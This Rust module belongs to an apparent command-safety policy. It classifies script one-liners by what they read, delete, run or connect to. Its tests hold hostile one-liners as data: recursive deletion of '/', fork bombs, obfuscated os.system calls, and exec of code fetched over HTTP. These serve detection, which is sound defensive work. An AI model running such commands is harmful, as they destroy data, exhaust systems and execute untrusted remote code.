//! One-liners of python, perl, ruby, node, php and lua: what they evidently open, delete, run and
//! connect to, and whether they do anything but compute and print.

use super::calls::{CALLS, Call, DELETES, EVALUATES, LISTS, MAKES_PATH};
use super::token::{Token, find, tokens};
use super::{address, flood, harmless, started};
use crate::policy::know::{Act, Does, Harm, Language, place};
use crate::policy::word::Word;

/// The acts of the code. Where it does more than compute and print, `Code` is among them.
pub(super) fn acts(language: Language, word: &Word, text: &[u8], at: usize) -> Vec<Act> {
    let opaque = Act::with(Does::Code(language), word, at);
    let Some(tokens) = tokens(language, text) else { return vec![opaque] };
    let mut scan = Scan { tokens: &tokens, language, text, at, acts: Vec::new() };
    scan.all();
    let mut acts = scan.acts;
    if flood::forks(&tokens, text) {
        acts.push(Act::with(Does::Catastrophe(Harm::Flood), word, at));
    }
    if !harmless::computes(language, &tokens) {
        started::of_tokens(&tokens, at, &mut acts);
        acts.push(opaque);
    }
    acts
}

struct Scan<'t> {
    tokens: &'t [Token],
    language: Language,
    text: &'t [u8],
    at: usize,
    acts: Vec<Act>,
}

impl Scan<'_> {
    fn all(&mut self) {
        for number in 0..self.tokens.len() {
            match &self.tokens[number] {
                Token::Command(text) => self.push(Does::RunText, text),
                Token::Name(_) if self.calls(number) => self.call(number),
                Token::Name(_)
                | Token::Text(_)
                | Token::Mixed
                | Token::Value
                | Token::Dot
                | Token::Sign(_)
                | Token::End => {}
            }
        }
    }

    fn push(&mut self, does: Does, text: &[u8]) {
        self.acts.push(Act::with(does, &Word::of(text), self.at));
    }

    /// Whether the name is called: a bracket follows, or a text where none is needed.
    fn calls(&self, number: usize) -> bool {
        match self.tokens.get(number + 1) {
            Some(Token::Sign(b'(')) => true,
            Some(Token::Text(_)) => {
                matches!(self.language, Language::Perl | Language::Ruby | Language::Lua)
            }
            _ => false,
        }
    }

    /// The name with those before it: `shutil.rmtree`.
    fn path(&self, number: usize) -> String {
        let mut parts = Vec::new();
        let mut at = number;
        while let Some(Token::Name(name)) = self.tokens.get(at) {
            parts.push(name.as_str());
            if at < 2 || self.tokens[at - 1] != Token::Dot {
                break;
            }
            at -= 2;
        }
        if at + 1 < number && !matches!(self.tokens.get(at), Some(Token::Name(_))) {
            parts.push("");
        }
        if parts.len() == 1 && number > 0 && self.tokens[number - 1] == Token::Dot {
            parts.push("");
        }
        parts.reverse();
        parts.join(".")
    }

    fn call(&mut self, number: usize) {
        let path = self.path(number);
        let last = path.rsplit('.').next().unwrap_or_default();
        let meets = |name: &str| match name.strip_prefix('.') {
            Some(any) => any == last,
            None => path == name || path.ends_with(&format!(".{name}")) && name.contains('.'),
        };
        let found = CALLS.iter().find(|(name, _)| meets(name)).map(|(_, call)| *call);
        let arguments = self.arguments(number + 1);
        self.path_method(number, last);
        self.listed(last, &arguments);
        if self.evaluates(&path, last) {
            if let Some(Argument::Text(code)) = arguments.first() {
                self.acts.extend(acts(self.language, &Word::of(code.clone()), code, self.at));
            }
            return;
        }
        let Some(call) = found else { return };
        self.done(call, &arguments);
    }

    /// Whether a text is handed over as code; in some languages `exec` starts a program.
    fn evaluates(&self, path: &str, last: &str) -> bool {
        let starts = match self.language {
            Language::Perl | Language::Ruby | Language::Php => true,
            // `child_process.exec`, and the methods of patterns and databases.
            _ => path != "exec" && !path.ends_with("builtins.exec"),
        };
        EVALUATES.contains(&last) && !(last == "exec" && starts)
    }

    /// What is listed may be deleted, where the code deletes at all.
    fn listed(&mut self, name: &str, arguments: &[Argument]) {
        let deletes = |token: &Token| match token {
            Token::Name(name) => DELETES.contains(&name.as_str()),
            _ => false,
        };
        let Some(Argument::Text(path)) = arguments.first().filter(|_| LISTS.contains(&name)) else {
            return;
        };
        if self.tokens.iter().any(deletes) {
            let end = path.iter().position(|byte| b"*?[{".contains(byte)).unwrap_or(path.len());
            let directory = path[..end].iter().rposition(|byte| *byte == b'/');
            let below = match directory {
                _ if end == path.len() => path.clone(),
                Some(at) => path[..=at].to_vec(),
                None => b".".to_vec(),
            };
            self.push(Does::DeleteSome, &below);
        }
    }

    fn done(&mut self, call: Call, arguments: &[Argument]) {
        let text = |number: usize| match arguments.get(number) {
            Some(Argument::Text(text)) => Some(text.clone()),
            Some(Argument::List(_) | Argument::Other) | None => None,
        };
        match call {
            Call::First(does) => {
                if let Some(first) = text(0) {
                    self.push(does, &first);
                }
            }
            Call::Mode => self.open(&text(0), &text(1), &text(2)),
            Call::Move | Call::Copy => {
                let does = if matches!(call, Call::Move) { Does::MoveAway } else { Does::Read };
                if let Some(first) = text(0) {
                    self.push(does, &first);
                }
                if let Some(second) = text(1) {
                    self.push(Does::PutAt, &second);
                }
            }
            Call::Url | Call::PerhapsUrl => {
                let Some(first) = text(0) else { return };
                if find(&first, b"://").is_some() {
                    place::url(&Word::of(first), self.at, &mut self.acts);
                } else if matches!(call, Call::Url) {
                    self.push(Does::Read, &first);
                }
            }
            Call::Host => self.host(arguments),
            Call::PerhapsHost => match arguments.first() {
                Some(Argument::Text(text)) => {
                    if let Some(host) = address::host(text) {
                        self.acts.push(Act::with(Does::Connect, &host, self.at));
                    }
                }
                Some(Argument::List(_) | Argument::Other) | None => self.host(arguments),
            },
            Call::Run => match arguments.first() {
                Some(Argument::Text(first)) => self.push(Does::RunText, first),
                Some(Argument::List(words)) if !words.is_empty() => {
                    let rest = words.iter().map(|word| match word {
                        Some(text) => Word::of(text.clone()),
                        None => Word::unknown(),
                    });
                    let rest = rest.collect();
                    self.acts.push(Act { rest, at: self.at, ..Act::of(Does::RunRest) });
                }
                Some(Argument::List(_) | Argument::Other) | None => {}
            },
        }
    }

    /// `open(path, mode)`, and perl's `open(F, mode, path)` and `open(F, "<path")`.
    fn open(&mut self, first: &Option<Vec<u8>>, second: &Option<Vec<u8>>, third: &Option<Vec<u8>>) {
        if self.language == Language::Perl {
            let mode = second.clone().unwrap_or_default();
            let path = third.clone().unwrap_or_else(|| {
                mode.iter().copied().filter(|byte| !b"<>+| ".contains(byte)).collect()
            });
            if mode.contains(&b'|') {
                self.push(Does::RunText, &path);
            } else if !path.is_empty() {
                self.push(if mode.contains(&b'>') { Does::Overwrite } else { Does::Read }, &path);
            }
            return;
        }
        let Some(path) = first else { return };
        let mode = second.clone().unwrap_or_default();
        let does = if mode.contains(&b'a') {
            Does::Append
        } else if mode.iter().any(|byte| b"wx+".contains(byte)) {
            Does::Overwrite
        } else {
            Does::Read
        };
        if find(path, b"://").is_some() {
            place::url(&Word::of(path.clone()), self.at, &mut self.acts);
        } else {
            self.push(does, path);
        }
    }

    fn host(&mut self, arguments: &[Argument]) {
        let host = arguments.iter().find_map(|argument| match argument {
            Argument::Text(text) => Some(text.clone()),
            Argument::List(texts) => texts.iter().flatten().next().cloned(),
            Argument::Other => None,
        });
        if let Some(host) = host {
            let word = place::host(&Word::of(host));
            self.acts.push(Act::with(Does::Connect, &word, self.at));
        }
    }

    /// `Path("x").unlink()`.
    fn path_method(&mut self, number: usize, last: &str) {
        let does = match last {
            "unlink" | "rmdir" => Does::Delete,
            "write_text" | "write_bytes" => Does::Overwrite,
            "read_text" | "read_bytes" | "iterdir" | "glob" => Does::Read,
            "mkdir" | "touch" => Does::Create,
            _ => return,
        };
        let back = |count: usize| number.checked_sub(count).and_then(|at| self.tokens.get(at));
        let path = back(1) == Some(&Token::Dot)
            && back(2) == Some(&Token::Sign(b')'))
            && back(4) == Some(&Token::Sign(b'('))
            && matches!(back(5), Some(Token::Name(name)) if name == "Path");
        if let (true, Some(Token::Text(text))) = (path, back(3)) {
            let text = text.clone();
            self.push(does, &text);
        }
    }

    /// The arguments from the bracket on.
    fn arguments(&self, from: usize) -> Vec<Argument> {
        if let Some(Token::Text(text)) = self.tokens.get(from) {
            return vec![Argument::Text(text.clone())];
        }
        let mut arguments = Vec::new();
        let mut current: Vec<&Token> = Vec::new();
        let mut depth = 0_usize;
        for token in self.tokens.iter().skip(from) {
            match token {
                Token::Sign(b'(' | b'[' | b'{') => depth += 1,
                Token::Sign(b')' | b']' | b'}') => depth = depth.saturating_sub(1),
                Token::Sign(b',') if depth == 1 => {
                    arguments.push(argument(&current));
                    current.clear();
                    continue;
                }
                _ => {}
            }
            if depth == 0 {
                break;
            }
            if depth > 1 || *token != Token::Sign(b'(') {
                current.push(token);
            }
        }
        arguments.push(argument(&current));
        let _ = self.text;
        arguments
    }
}

enum Argument {
    Text(Vec<u8>),
    List(Vec<Option<Vec<u8>>>),
    Other,
}

fn argument(tokens: &[&Token]) -> Argument {
    let tokens: Vec<&&Token> = tokens.iter().filter(|token| ***token != Token::End).collect();
    match tokens.as_slice() {
        [Token::Text(text)] => Argument::Text(text.clone()),
        // A path or a text made of one: `Path("x")`, `os.path.abspath("x")`.
        [.., Token::Name(name), Token::Sign(b'('), Token::Text(text), Token::Sign(b')')]
            if MAKES_PATH.contains(&name.as_str()) =>
        {
            Argument::Text(text.clone())
        }
        // `Path("/") / "etc"`.
        [
            ..,
            Token::Name(name),
            Token::Sign(b'('),
            Token::Text(text),
            Token::Sign(b')'),
            Token::Sign(b'/'),
            Token::Text(below),
        ] if MAKES_PATH.contains(&name.as_str()) => {
            Argument::Text([text.as_slice(), b"/", below].concat())
        }
        [Token::Sign(b'[' | b'('), inner @ ..] => {
            let parts = inner.split(|token| ***token == Token::Sign(b','));
            let texts = parts.map(|part| match part {
                [Token::Text(text)] | [Token::Text(text), Token::Sign(b']' | b')')] => {
                    Some(text.clone())
                }
                _ => None,
            });
            Argument::List(texts.collect())
        }
        _ => Argument::Other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use Language::{JavaScript, Lua, Perl, Php, Python, Ruby};

    fn told(language: Language, text: &str) -> String {
        let word = Word::of(text);
        let one = |act: &Act| {
            let with = act.with.as_ref().map(|word| word.shown().into_owned()).unwrap_or_default();
            match act.does {
                Does::Code(_) => "code".to_owned(),
                does => format!("{does:?} {with}"),
            }
        };
        let acts = acts(language, &word, text.as_bytes(), 0);
        acts.iter().map(one).collect::<Vec<_>>().join(", ")
    }

    #[test]
    fn what_computes_and_prints_does_nothing() {
        for (language, text) in [
            (Python, "print('{} format {}'.format(1,2))"),
            (Python, "import json,sys; print(json.load(sys.stdin)['a'])"),
            (Python, "from urllib.parse import urlparse; print(urlparse('https://a/x').netloc)"),
            (Python, "import datetime as d\nprint(d.date(2020,1,1))"),
            (JavaScript, "console.log(new URL('https://a.example/x').host)"),
            (JavaScript, "console.log([1,2].map(x => x / 2))"),
            (Perl, "print if /a|b/"),
            (Perl, "s/a/b/g; print"),
            (Perl, "$n += $F[1]; END { print $n }"),
            (Ruby, "puts 1 + 1"),
            (Php, "echo strlen('system');"),
            (Lua, "print(('x'):rep(3))"),
        ] {
            assert_eq!(told(language, text), "", "{text}");
        }
    }

    #[test]
    fn what_reaches_out_is_found() {
        for (language, text, expected) in [
            (Python, "print(open('/x/y').read())", "Read /x/y, code"),
            (Python, "open('../x','w')", "Overwrite ../x, code"),
            (Python, "import shutil; shutil.rmtree('/home/user')", "DeleteTree /home/user, code"),
            (Python, "import os; os.system('touch x')", "RunText touch x, code"),
            (
                Python,
                "import os\nwhile 1: os.fork()",
                "Catastrophe(Flood) import os\nwhile 1: os.fork(), code",
            ),
            (
                Python,
                "import urllib.request as u; u.urlopen('http://h.example:4/')",
                "Connect h.example, code",
            ),
            (Python, "s.connect(('h.example',80))", "Connect h.example"),
            (Python, "from pathlib import Path; Path('x').unlink()", "Delete x, code"),
            (Python, "import subprocess; subprocess.run(['rm','x'])", "RunRest , code"),
            (JavaScript, "require('fs').rmSync('/',{recursive:true})", "DeleteTree /, code"),
            (
                JavaScript,
                "require(\"child_process\").execSync(\"touch x\")",
                "RunText touch x, code",
            ),
            (JavaScript, "require('net').connect(4,'h.example')", "Connect h.example, code"),
            (Ruby, "require \"fileutils\"; FileUtils.rm_rf(\"/\")", "DeleteTree /, code"),
            (Ruby, "system(\"touch x\")", "RunText touch x, code"),
            (Ruby, "`touch x`", "RunText touch x, code"),
            (Perl, "system \"touch x\"", "RunText touch x, code"),
            (Perl, "fork while fork", "Catastrophe(Flood) fork while fork, code"),
            (Perl, "IO::Socket::INET->new(\"h.example:4\")", "Connect h.example, code"),
            (Perl, "open(F,'<','/etc/x')", "Read /etc/x, code"),
            (Perl, "s/.*/system 1/e", "code"),
            (Php, "system(\"touch x\");", "RunText touch x, code"),
            (Php, "readfile('/etc/x');", "Read /etc/x, code"),
            (Lua, "os.execute('sh')", "RunText sh, code"),
            (Lua, "io.open('/x','rb')", "Read /x, code"),
            (Ruby, "%x{rm x}", "RunText rm x, code"),
            (Perl, "exec \"rm\",\"-rf\",\"/x\"", "RunText rm, RunRest , code"),
            (Python, "__import__('os').system('rm -rf /x')", "RunText rm -rf /x, code"),
            (Python, "import os; getattr(os,'sys'+'tem')('rm -rf /x')", "RunText rm -rf /x, code"),
            (Python, "import os; os.execvp('rm',['rm','-rf','/x'])", "RunRest , code"),
            (Python, "import subprocess as s; s.call('rm x', shell=True)", "RunText rm x, code"),
            (
                JavaScript,
                "require('child_process').spawnSync('rm',['-rf','/x'])",
                "RunText rm, RunRest , code",
            ),
            (
                Python,
                "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                "Connect h, Catastrophe(ForeignCode) , code",
            ),
            (Ruby, "Net::HTTP.get(URI('http://h/x'))", "Connect h, code"),
        ] {
            assert_eq!(told(language, text), expected, "{text}");
        }
    }
}
